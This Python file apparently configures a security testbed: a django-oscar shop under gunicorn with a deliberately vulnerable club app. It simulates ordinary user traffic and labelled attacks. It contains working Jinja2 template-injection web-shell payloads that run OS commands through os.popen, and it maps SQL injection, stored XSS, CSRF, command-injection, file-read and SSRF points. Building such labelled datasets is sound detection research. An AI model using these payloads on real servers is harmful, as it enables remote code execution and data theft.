"""django-oscar 4 under gunicorn (a process for each worker) with PostgreSQL, and a vulnerable members' club."""
import os
import shutil
import subprocess
from pathlib import Path
from urllib.parse import urlencode

from recorder.application import Application, Person, as_www_data
from recorder.attacks import Planting, Surface, Write
from recorder.databases import Postgres
from recorder.injections import Place, Secrets
from recorder.labels import Label
from recorder.users import outside, returned

HERE = Path(__file__).parent
PEOPLE = [Person(login, f"pw-{login}", "") for login in "admin kim lou ida bo sam eve max zoe ned amy rex ina tom uma jon".split()]
VENV = Path("/srv/plimsoll-testbed/venv-oscar")
LETTERS = ["Dear {{ name }}, about {{ item }}: it is here.", "Hello {{ name }}!", "{% if item %}Item {{ item }}{% endif %} is yours, {{ name|title }}."]


def environment(instance):
    return {"INSTANCE": str(instance.folder), "DATABASE_PORT": str(instance.database.port), "DJANGO_SETTINGS_MODULE": "settings", "PYTHONPATH": str(instance.folder / "app")}


def prepare(instance):
    if not (VENV / "bin" / "gunicorn").exists():
        subprocess.run(["/usr/bin/python3", "-m", "venv", VENV], check=True)
    wanted = ["django-oscar[sorl-thumbnail]==4.2.1", "gunicorn", "psycopg2-binary", "jinja2", "pycountry"]
    subprocess.run([VENV / "bin" / "pip", "install", "-q", *wanted], check=True)
    shutil.copytree(HERE, instance.folder / "app", dirs_exist_ok=True)
    (instance.folder / "app" / "application.py").unlink()
    env = os.environ | environment(instance)
    for command in (["migrate", "-v0"], ["collectstatic", "-v0", "--noinput"]):
        subprocess.run([VENV / "bin" / "django-admin", *command], env=env, check=True)
    (instance.folder / "static" / "club.css").write_text("body { font-family: sans-serif; margin: 2rem }\n")
    subprocess.run([VENV / "bin" / "python", instance.folder / "app" / "seed.py"], env=env, check=True)


def server(instance):
    layout = '%(h)s - - %(t)s "%(r)s" %(s)s %(b)s "%(f)s" "%(a)s"'
    command = [VENV / "bin" / "gunicorn", "--workers", 3, "--bind", f"127.0.0.1:{instance.port}", "--access-logfile", instance.folder / "log" / "access.log",
               "--access-logformat", layout, "--timeout", 60, "--no-control-socket", "wsgi:application"]
    return as_www_data(*command), environment(instance)


def jobs(instance):
    admin = f"setpriv --reuid=33 --regid=33 --clear-groups {VENV}/bin/django-admin"
    return [f"{instance.database.dump} | gzip > {instance.folder}/tmp/backup.gz", f"{admin} clearsessions", f"find {instance.folder}/tmp -mmin +60 -type f -delete"]


async def login(client, person):
    await client.submit("/accounts/login/", {"login-username": f"{person.login}@mail.example", "login-password": person.password})


async def guess(client, name, password, label):
    await client.submit("/accounts/login/", {"login-username": f"{name}@mail.example", "login-password": password}, label=label)


def product(u):
    number = u.rand.randint(1, 40)
    kinds = ["lantern", "rope", "anchor", "compass", "kettle", "jacket", "pulley", "varnish", "chart", "bell"]
    looks = ["brass", "steel", "oiled", "blue", "sailors"]
    return f"/catalogue/{looks[(number - 1) % 5]}-{kinds[(number - 1) % 10]}-{number - 1}_{number}/"


async def read(u):
    await u.client.visit(u.rand.choice(["/catalogue/", "/catalogue/?page=2", "/club/wall", "/club/find", product(u), product(u)]))


async def search(u):
    await u.client.visit("/search/?" + urlencode({"q": u.texts.query()}))


async def basket(u):
    await u.client.submit(product(u), {"quantity": str(u.rand.randint(1, 3))})
    if await u.think(0.2, 0.8):
        await u.client.visit("/basket/")


async def review(u):
    fields = {"title": u.texts.title(), "score": str(u.rand.randint(1, 5)), "body": u.texts.prose()}
    await u.client.submit(product(u) + "reviews/add/", fields)


async def account(u):
    fields = {"first_name": u.texts.name(), "last_name": u.rand.choice(["O'Brien", "Meyer", "d'Arc", "Ng"])}
    await u.client.submit("/accounts/profile/edit/", fields)


async def address(u):
    fields = {"first_name": u.texts.name(), "last_name": "O'Brien", "line1": u.texts.street(), "line4": u.texts.city(), "postcode": "D02 X285", "country": "IE"}
    await u.client.submit("/accounts/addresses/add/", fields)


async def pages(u):
    await u.client.visit(u.rand.choice(["/accounts/orders/", "/accounts/addresses/", "/accounts/wishlists/", "/accounts/profile/", "/offers/"]))


async def dashboard(u):
    if u.person.login != "admin":
        return await pages(u)
    await u.client.visit(u.rand.choice(["/dashboard/", "/dashboard/catalogue/", "/dashboard/orders/", "/dashboard/users/", "/dashboard/reviews/", "/dashboard/users/?email=&name=o%27n"]))


async def find(u):
    await u.client.submit("/club/find", {"q": u.texts.query() if u.rand.random() < 0.15 else u.texts.word()})
    if await u.think(0.2, 0.8):
        await u.client.visit(f"/club/item/{u.rand.randint(1, 40)}")


async def ranking(u):
    await u.client.visit(f"/club/ranking?by={u.rand.choice(['id', 'title', 'date_created desc', 'title desc', 'rating'])}")


async def card(u):
    fields = {"fullname": u.texts.name().replace("<", "("), "email": u.texts.mail(), "phone": u.texts.phone(), "street": u.texts.street(), "city": u.texts.city(), "note": u.rand.choice(["ring twice", "either Mon or Tue", "gift: \"happy\"", "size < 9; blue"])}
    names = u.rand.sample(sorted(fields), u.rand.randint(1, 6))
    await u.client.submit("/club/card", {name: fields[name] for name in names})


async def wall(u):
    await u.client.submit("/club/wall", {"text": u.texts.markup() if u.rand.random() < 0.4 else u.texts.prose()})


async def join(u):
    await u.client.visit("/club/wall")
    await u.client.visit(f"/club/join?event={u.rand.randint(1, 30)}&note={u.texts.word()}")


async def upload(u):
    name, kind, content = u.texts.file()
    await u.client.submit("/club/files", {}, files={"upload": (name, kind, content)})
    if await u.think(0.1, 0.5):
        await u.client.call("GET", f"/club/file?name={name.replace(' ', '%20')}")
    if name == "notes.txt":
        await u.client.submit("/club/files", {"name": name})


async def link(u):
    await u.client.submit("/club/files", {"address": f"{u.sites.honest(False)}/article/{u.rand.randint(1, 99)}?ref=club"})


async def letter(u):
    await u.client.submit("/club/letter", {"text": u.rand.choice(LETTERS), "item": str(u.rand.randint(1, 80))})


async def script(u):
    """What the pages' scripts ask for."""
    await u.client.visit("/club/find")
    if u.rand.random() < 0.6:
        await u.client.call("POST", "/club/api/filter", json={"range": {"below": u.rand.randint(5, 40)}, "starts": u.rand.choice(["b", "st", "o", "", "blue", "brass"])})
    else:
        await u.client.call("GET", "/club/api/stock?ids=" + ",".join(str(u.rand.randint(1, 40)) for _ in range(3)))


async def pay(u):
    await u.client.visit("/basket/")
    await returned(u, "/club/paid", {"reference": f"INV-{u.rand.randint(100, 999)}", "state": "paid", "signature": f"{u.rand.getrandbits(64):x}"})


async def single_sign_on(u):
    await returned(u, "/club/sso", {"code": f"{u.rand.getrandbits(60):x}", "state": "x", "subject": u.person.login}, "get", "id")


async def sign_in(u):
    await u.client.submit("/club/signin", {"name": u.person.login, "word": u.person.password + ("" if u.rand.random() < 0.8 else "x")})


async def sheet(u):
    if u.person.login == "admin":
        await u.client.submit("/club/files", {}, files={"upload": ("prices.j2", "text/plain", b"<ul>{% for row in rows %}<li>{{ row[1] }}</li>{% endfor %}</ul>")})
    await u.client.visit(f"/club/sheet/prices?week={u.rand.randint(1, 52)}")


async def export(u):
    await u.client.visit("/club/export")


async def newsletter(u):
    """A link on another site that changes something here."""
    await returned(u, "/club/join", {"event": u.rand.randint(1, 30), "note": "mail"}, "get", "news")


async def odd_upload(u):
    name, content = u.rand.choice([("list.php.png", b"\x89PNG\r\n"), ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><title>mine</title></svg>"), ("notes.html", b"<p>Hello</p>"), ("setup.py", b"from setuptools import setup\nsetup()\n")])
    await u.client.submit("/club/files", {}, files={"upload": (name, "application/octet-stream", content)})


async def odd_question(u):
    await u.client.submit(product(u) + "reviews/add/", {"title": "How is <script> escaped?", "score": "4", "body": "Our DBA says: UPDATE users SET city = 'x' WHERE id = 5 -- or <img src=x onerror=alert(1)>, is that bad? ' OR 1=1"})


async def new_feature(u):
    await u.client.visit(f"/search/?q=rope&view=grid&min={u.rand.randint(1, 9)}&tags[]=a&tags[]=b")


async def webhook(episode, rand):
    await outside(episode, rand).call("POST", "/club/hook", json={"reference": f"INV-{rand.randint(100, 999)}", "state": rand.choice(["paid", "settled", "refunded"]), "note": "O'Brien & Sons"}, headers={"X-Signature": f"{rand.getrandbits(64):x}"})


async def api_client(episode, rand):
    for first in range(1, 30, 10):
        await outside(episode, rand).call("GET", f"/club/api/stock?ids={first},{first + 1}")


async def crawler(episode, rand):
    for path in ("/robots.txt", "/catalogue/", "/sitemap.xml", "/wp-login.php", "/favicon.ico"):
        await outside(episode, rand, "ExampleBot/2.1 (+https://bot.example/about)").visit(path)
        await episode.pause(0.5)


SHELLS = [b"<pre>{{ cycler.__init__.__globals__.os.popen(query.c).read() }}</pre>", b"{% set o = lipsum.__globals__['os'] %}{{ o.popen(query.get('c', 'id')).read() }}"]


async def shell(attack):
    name = f"week{attack.rand.randrange(99)}"
    await attack.client.submit("/club/files", {}, files={"upload": (f"{name}.j2", "text/plain", attack.rand.choice(SHELLS))}, label=Label("web-shell", "upload", 0))
    return f"/club/sheet/{name}"


FILTER = {"range": {"below": 9}, "starts": "b"}
ATTACKS = Surface(
    dialect="postgresql",
    secrets=Secrets("club_member", "login", "pass", ("role", "fullname", "email", "phone", "street", "city")),
    reads=[Place("GET", "/club/find", "q", "like", "", "ntt"), Place("GET", "/club/item/{}", "", "number", ")", "ntt")],
    orders=[Place("GET", "/club/ranking", "by", "order", "", "title,description")],
    stacked=[Place("GET", "/club/item/{}", "", "number", ")"), Place("GET", "/club/find", "q", "like")],
    updates=[Place("POST", "/club/card", "note", others={"city": "Cork"})],
    json=[Place("POST", "/club/api/filter", "starts", "like", "", "nt", FILTER, "json"), Place("POST", "/club/api/filter", "range.below", "number", "", "nt", FILTER, "json")],
    logins=[Place("POST", "/club/signin", "name", others={"word": "x"})],
    guess=guess,
    reflected=[Place("GET", "/club/find", "q")],
    plantings=[Planting("/club/wall", "text", "/club/wall"), Planting("/club/wall", "text", "/club/wall"), Planting("/club/card", "fullname", "/club/wall")],
    writes=[Write("/club/card", {"fullname": "Kim {}", "email": "kim{}@mail.example", "phone": "555 {}", "street": "{} Far Away", "city": "Nowhere", "note": "none"}), Write("/club/wall", {"text": "agreed {}"})],
    guarded_writes=[Write("/accounts/profile/edit/", {"first_name": "Kim {}", "last_name": "Owned {}"}, {}, "/accounts/profile/edit/", "csrfmiddlewaretoken")],
    changing_gets=["/club/join?event={}&note=all", "/club/join?event=7&note={}"],
    private=["/club/export", "/accounts/orders/"],
    shell=shell,
    commands=[Place("POST", "/club/size", "name", honest="notes.txt")],
    templates=[(Place("POST", "/club/letter", "text", others={"item": "5"}), ["{{ cycler.__init__.__globals__.os.popen('COMMAND').read() }}", "{{ lipsum.__globals__['os'].popen('COMMAND').read() }}", "{{ 7*7 }}{{ self.__init__.__globals__.__builtins__.__import__('os').popen('COMMAND').read() }}"])],
    files=[Place("GET", "/club/file", "name", honest="notes.txt")],
    fetches=[Place("POST", "/club/link", "address")],
)
APPLICATION = Application(
    name="oscar", database=Postgres, packages=("postgresql", "python3-venv"), prepare=prepare, server=server, ready="/club/find", access_log="log/access.log",
    actions=[(6, read), (3, search), (3, basket), (1, review), (1, account), (1, address), (2, pages), (2, dashboard), (3, find), (1, ranking), (2, card), (2, wall), (1, join), (1, upload), (1, link), (1, letter), (3, script), (1, pay), (1, single_sign_on), (1, sign_in), (1, sheet), (1, export)],
    odd_actions=[newsletter, odd_upload, odd_question, new_feature],
    others=[(9, webhook), (12, api_client), (40, crawler)],
    login=login, people=PEOPLE, pages=["/catalogue/", "/club/find", "/club/wall", "/club/files"], attacks=ATTACKS, jobs=jobs,
)
